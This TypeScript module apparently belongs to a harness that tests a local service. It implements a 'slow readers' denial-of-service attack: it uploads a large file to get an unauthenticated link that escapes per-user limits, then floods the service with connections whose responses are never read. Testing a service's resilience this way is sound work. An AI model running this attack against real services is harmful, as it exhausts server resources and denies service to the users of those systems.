import { request } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';
import type { Attack, Target } from './attack';

const FILE_BYTES = 24 * 1024 ** 2;
const EACH = 10;

/** Asks for a large file many times, from every address, and hardly reads the answers. */
export const slowReaders: Attack = {
  name: 'slow readers',
  run: async (target, note, signal) => {
    const link = await putFile(target);
    return Promise.all(
      target.addresses.flatMap((address) =>
        Array.from({ length: EACH }, () => readSlowly(target, address, link, note, signal)),
      ),
    );
  },
};

/** A link to a file of the account's vault: whoever has it needs no token, so no limit by person holds. */
async function putFile({ port, account }: Target): Promise<string> {
  const form = new FormData();
  form.set('userId', account.id);
  form.set('file', new Blob([Buffer.alloc(FILE_BYTES, 'All of it is text.\n')]), 'long.txt');
  const headers = { authorization: `Bearer ${account.token}` };
  const url = `http://127.0.0.1:${port}/api/vault/upload`;
  const answer = await fetch(url, { method: 'POST', headers, body: form });
  const { data } = (await answer.json()) as { data: { fileUrl: string } };
  return data.fileUrl;
}

async function readSlowly(
  { port }: Target,
  localAddress: string,
  path: string,
  note: (status: number) => void,
  signal: AbortSignal,
): Promise<void> {
  while (!signal.aborted) {
    const status = await new Promise<number>((resolve) => {
      const asking = request({ port, host: '127.0.0.1', localAddress, path, agent: false }, (response) => {
        // Nothing of it is read: the answer waits in all buffers on the way.
        response.on('close', () => resolve(response.statusCode ?? 0));
        if (response.statusCode !== 200) response.resume();
      });
      asking.on('error', () => resolve(0));
      signal.addEventListener('abort', () => asking.destroy());
      asking.end();
    });
    if (signal.aborted) return;
    note(status);
    await pause(1_000, undefined, { signal }).catch(() => undefined);
  }
}
